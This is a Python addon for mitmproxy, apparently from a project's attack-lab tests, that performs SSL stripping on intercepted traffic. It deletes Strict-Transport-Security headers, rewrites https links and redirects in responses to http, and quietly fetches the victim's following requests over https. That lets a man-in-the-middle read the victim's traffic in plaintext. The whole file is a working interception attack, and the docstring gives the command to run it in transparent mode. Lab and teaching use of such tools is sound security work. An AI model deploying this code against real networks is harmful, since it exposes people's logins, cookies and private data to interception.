"""A mitmproxy addon that strips SSL, for the attack lab (as mitmproxy's own
sslstrip example does): https links and redirects become http, and what
the victim then asks over http is fetched over https behind its back.

    mitmdump --mode transparent -s tests/lab/sslstrip.py"""
import re

from mitmproxy import http

SECURE: set = set()
HTTPS = re.compile(rb"https://([a-zA-Z0-9.-]+)")


def request(flow: http.HTTPFlow) -> None:
    if flow.request.scheme == "http" and flow.request.pretty_host in SECURE:
        flow.request.scheme, flow.request.port = "https", 443


def response(flow: http.HTTPFlow) -> None:
    if flow.response is None:
        return
    flow.response.headers.pop("Strict-Transport-Security", None)
    location = flow.response.headers.get("Location", "")
    if location.startswith("https://"):
        SECURE.add(location[8:].split("/")[0].split(":")[0])
        flow.response.headers["Location"] = "http://" + location[8:]
    body = flow.response.content or b""
    for host in HTTPS.findall(body):
        SECURE.add(host.decode())
    flow.response.content = HTTPS.sub(rb"http://\1", body)
